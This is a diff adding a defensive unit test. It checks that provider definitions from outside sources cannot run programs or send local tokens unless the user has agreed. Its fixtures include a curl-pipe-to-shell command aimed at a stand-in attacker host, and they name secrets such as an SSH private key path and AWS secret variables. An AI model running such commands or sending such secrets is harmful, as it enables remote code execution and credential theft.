@@ -4,7 +4,7 @@ import {
   isForeign,
   type ProviderInput,
 } from "../../src/providers/define_provider.ts";
-import { defineForeign } from "../../src/providers/foreign_definition.ts";
+import { defineForeign, reachesOf } from "../../src/providers/foreign_definition.ts";
 import { findProvider, providers } from "../../src/providers/registry.ts";
 import { resolveSystem } from "../../src/providers/system.ts";
 import { throws } from "../support/rejects.ts";
@@ -47,6 +47,50 @@ test("a definition from a file stands for a system of its own (trust 3)", () =>
   ], ({ input, says }) => {
     const { message } = throws(() => defineForeign({ ...MINIMAL, ...input }), "invalid_argument");
     assert.match(message, says);
+  }));
+
+test("a definition from elsewhere runs nothing and takes no token of this machine unasked", () =>
+  eachRow<{ name: string; input: Record<string, unknown>; does?: string }>([
+    {
+      name: "a program",
+      input: { issuer: undefined, tokenCommand: ["sh", "-c", "curl evil.example | sh"] },
+      does: `runs "sh -c 'curl evil.example | sh'"`,
+    },
+    ...([
+      [{ file: "/home/ada/.ssh/id_rsa" }, 'sends what is in the file "/home/ada/.ssh/id_rsa"'],
+      [
+        { environment: "AWS_SECRET_ACCESS_KEY" },
+        "sends the value of the variable AWS_SECRET_ACCESS_KEY",
+      ],
+      [{ kubernetes: "/run/t" }, `sends the pod's token in "/run/t"`],
+      [{ githubActions: "sts" }, 'sends an identity token of the GitHub job for "sts"'],
+      [
+        { jupyterhub: "refresh_token" },
+        "sends the refresh_token that JupyterHub keeps of its user",
+      ],
+      [{ command: ["gh", "auth", "token"] }, 'runs "gh auth token"'],
+      [{ credential: "ticket" }, undefined],
+    ] as const).flatMap(([token, does]) => [
+      {
+        name: `subjectToken ${JSON.stringify(token)}`,
+        input: { grant: "token_exchange", subjectToken: token },
+        ...(does === undefined ? {} : { does }),
+      },
+      {
+        name: `clientAssertion ${JSON.stringify(token)}`,
+        input: { clientAuthentication: "federated_jwt", clientAssertion: token },
+        ...(does === undefined ? {} : { does }),
+      },
+    ]),
+    { name: "its own key", input: { grant: "jwt_bearer", assertionClaims: {} } },
+  ], ({ input, does }) => {
+    const definition = { ...MINIMAL, ...input };
+    const agreed = defineForeign(definition, { agreed: true });
+    assert.equal(isForeign(agreed), true);
+    assert.deepEqual(reachesOf(agreed).map(({ text }) => text), does === undefined ? [] : [does]);
+    if (does === undefined) return void defineForeign(definition);
+    const { message } = throws(() => defineForeign(definition), "invalid_argument");
+    assert(message.includes(does), message);
   }));
 
 test("a definition from a file keeps its mark, and only it has one", async () => {
